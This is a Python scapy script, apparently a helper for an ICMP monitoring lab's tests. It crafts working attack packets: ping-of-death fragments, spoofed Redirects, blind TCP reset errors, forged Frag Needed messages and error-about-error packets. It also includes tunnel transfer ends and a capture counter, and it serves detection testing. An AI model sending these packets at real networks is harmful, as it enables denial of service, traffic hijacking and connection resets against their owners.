#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Crafts the attack packets of the watch lab tests with scapy, and the TCP ends of tunnel transfers.

Run only inside a lab namespace (icmpkit lab exec NODE -- /usr/bin/python3
watch_craft.py ...), with /usr/bin/python3 (it has scapy). Every command
sends a bounded number of packets and prints how many it sent.

  pod SRC DST COUNT            COUNT ping-of-death echo requests, as real IPv4
                               fragments of a 65628-byte datagram (RFC 791:
                               the last fragment ends past 65535)
  redirect GW VICTIM DST NEWGW Redirect (host, RFC 792) spoofed from the
                               victim's gateway GW: "for DST use NEWGW"
  blind-tcp SRC VICTIM SPORT   Destination Unreachable, port (3) and protocol
                               (2), from SRC to VICTIM, quoting a TCP segment
                               VICTIM:SPORT -> SRC:443 (with no handshake
                               ever, the blind reset of RFC 5927)
  tcp-try SRC SPORT DST DPORT  one TCP connection attempt from SRC:SPORT
  small-mtu SRC VICTIM MTU     Frag Needed (type 3 code 4) with next-hop MTU
                               MTU, quoting a UDP datagram VICTIM -> SRC:53
  err-err SRC VICTIM           Host Unreachable quoting a Port Unreachable
                               that VICTIM sent (RFC 1122 3.2.2: never an
                               error about an error)
  udp-hold SRC SPORT DST DPORT SECONDS
                               a connected UDP socket SRC:SPORT -> DST:DPORT
                               that sends one datagram and stays SECONDS
  sink ADDR PORT SECONDS       accepts one TCP connection, prints the bytes
                               it received before EOF
  send ADDR PORT BYTES SECONDS connects, sends BYTES random bytes, closes,
                               prints the bytes sent
  echo-stats PCAP              counts in a capture: echo requests, replies,
                               bad checksums, ICMP fragments, empty echo
                               requests, payloads starting with 0x45, and
                               the distinct first 4 payload bytes
"""
import os
import socket
import sys
import time


def scapy():
    # Imported late: sink and send need only the standard library.
    import scapy.all as s
    s.conf.verb = 0
    # The kernel routes and resolves; scapy only builds the packets.
    s.conf.L3socket = s.L3RawSocket
    return s


def cmd_pod(src, dst, count):
    s = scapy()
    count = int(count)
    if not 1 <= count <= 20:
        sys.exit("COUNT must be 1..20")
    sent = 0
    for i in range(count):
        # 8 bytes of ICMP header and 65600 of data after a 20-byte IP header:
        # 65628 bytes, which no valid IPv4 datagram can be.
        dgram = s.IP(src=src, dst=dst, id=0x5000 + i) / s.ICMP(type=8, id=0x90D, seq=i) / (b"\xa5" * 65600)
        frags = s.fragment(dgram, fragsize=1480)
        last = frags[-1]
        end = last[s.IP].frag * 8 + len(s.raw(last[s.IP].payload))
        assert end > 65535, end
        s.send(frags)
        sent += len(frags)
    print(sent)


def cmd_redirect(gw, victim, dst, newgw):
    s = scapy()
    # The quoted datagram is one the victim plausibly sent to DST (UDP).
    quoted = s.IP(src=victim, dst=dst, ttl=63) / s.UDP(sport=41000, dport=53) / (b"q" * 12)
    pkt = s.IP(src=gw, dst=victim) / s.ICMP(type=5, code=1, gw=newgw) / s.raw(quoted)[:28]
    s.send(pkt)
    print(1)


def cmd_blind_tcp(src, victim, sport):
    s = scapy()
    # A segment VICTIM:SPORT -> SRC:443; when no handshake was ever seen for
    # it, the error tries to reset a connection blindly (RFC 5927 section 5).
    seg = s.IP(src=victim, dst=src, ttl=64, flags="DF") / s.TCP(sport=int(sport), dport=443, flags="A", seq=0x1234567, ack=0x89ABCDE)
    quote = s.raw(seg)[:28]
    n = 0
    for code in (3, 2):
        s.send(s.IP(src=src, dst=victim) / s.ICMP(type=3, code=code) / quote)
        n += 1
    print(n)


def cmd_tcp_try(src, sport, dst, dport):
    # One real handshake attempt (SYN, then RST or nothing), bounded.
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((src, int(sport)))
    sock.settimeout(2)
    try:
        sock.connect((dst, int(dport)))
        print("connected")
    except OSError as e:
        print(type(e).__name__)
    sock.close()


def cmd_small_mtu(src, victim, mtu):
    s = scapy()
    mtu = int(mtu)
    dgram = s.IP(src=victim, dst=src, flags="DF", ttl=64) / s.UDP(sport=42000, dport=53) / (b"u" * 1000)
    pkt = s.IP(src=src, dst=victim) / s.ICMP(type=3, code=4, nexthopmtu=mtu) / s.raw(dgram)[:28]
    s.send(pkt)
    print(1)


def cmd_err_err(src, victim):
    s = scapy()
    # The victim's Port Unreachable about a UDP probe from SRC ...
    probe = s.IP(src=src, dst=victim, ttl=64) / s.UDP(sport=43000, dport=33434)
    pu = s.IP(src=victim, dst=src, ttl=64) / s.ICMP(type=3, code=3) / s.raw(probe)[:28]
    # ... quoted by a Host Unreachable sent back to it: its IP header, its
    # whole ICMP header and the 28 bytes it quoted itself.
    pkt = s.IP(src=src, dst=victim) / s.ICMP(type=3, code=1) / s.raw(pu)[:56]
    s.send(pkt)
    print(1)


def cmd_udp_hold(src, sport, dst, dport, seconds):
    # A connected UDP socket: the kernel applies a Redirect only for a flow
    # that a socket owns (ICMP errors are delivered to the socket's protocol).
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((src, int(sport)))
    sock.connect((dst, int(dport)))
    sock.send(b"watch-lab")
    time.sleep(float(seconds))
    sock.close()
    print(1)


def cmd_sink(addr, port, seconds):
    deadline = time.monotonic() + float(seconds)
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, int(port)))
    srv.listen(1)
    srv.settimeout(float(seconds))
    conn, _ = srv.accept()
    total = 0
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        conn.settimeout(left)
        try:
            data = conn.recv(65536)
        except socket.timeout:
            break
        if not data:
            break
        total += len(data)
    conn.close()
    print(total)


def cmd_send(addr, port, nbytes, seconds):
    deadline = time.monotonic() + float(seconds)
    nbytes = int(nbytes)
    if not 1 <= nbytes <= 4 << 20:
        sys.exit("BYTES must be 1..4 MiB")
    conn = socket.create_connection((addr, int(port)), timeout=float(seconds))
    conn.settimeout(max(deadline - time.monotonic(), 0.1))
    conn.sendall(os.urandom(nbytes))
    conn.shutdown(socket.SHUT_WR)
    # Wait for the other end to close, so that everything crossed.
    while time.monotonic() < deadline:
        conn.settimeout(max(deadline - time.monotonic(), 0.1))
        try:
            if not conn.recv(4096):
                break
        except socket.timeout:
            break
    conn.close()
    print(nbytes)


def cmd_echo_stats(pcap):
    s = scapy()
    from scapy.utils import checksum
    n = {"requests": 0, "replies": 0, "badsum": 0, "fragments": 0, "empty": 0, "ip_inside": 0}
    magics = set()
    for p in s.rdpcap(pcap):
        if s.IP not in p or p[s.IP].proto != 1:
            continue
        ip = p[s.IP]
        if ip.frag != 0 or ip.flags.MF:
            n["fragments"] += 1
        if ip.frag != 0 or s.ICMP not in p:
            continue
        icmp = p[s.ICMP]
        if icmp.type not in (0, 8):
            continue
        n["requests" if icmp.type == 8 else "replies"] += 1
        payload = bytes(icmp.payload)
        # Only a whole datagram can be checked; the capture keeps 2048 bytes.
        whole = s.raw(icmp)
        if not ip.flags.MF and len(whole) == ip.len - ip.ihl * 4 and checksum(whole) != 0:
            n["badsum"] += 1
        if icmp.type == 8 and not payload:
            n["empty"] += 1
        if payload[:1] == b"\x45":
            n["ip_inside"] += 1
        if len(payload) >= 4:
            magics.add(payload[:4].hex())
    print(" ".join("%s=%d" % kv for kv in n.items()), "magics=" + ",".join(sorted(magics)[:8]))


COMMANDS = {
    "pod": (cmd_pod, 3),
    "redirect": (cmd_redirect, 4),
    "blind-tcp": (cmd_blind_tcp, 3),
    "tcp-try": (cmd_tcp_try, 4),
    "small-mtu": (cmd_small_mtu, 3),
    "err-err": (cmd_err_err, 2),
    "udp-hold": (cmd_udp_hold, 5),
    "sink": (cmd_sink, 3),
    "send": (cmd_send, 4),
    "echo-stats": (cmd_echo_stats, 1),
}


def main():
    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
        sys.exit(__doc__)
    fn, nargs = COMMANDS[sys.argv[1]]
    if len(sys.argv) != 2 + nargs:
        sys.exit(__doc__)
    fn(*sys.argv[2:])


if __name__ == "__main__":
    main()
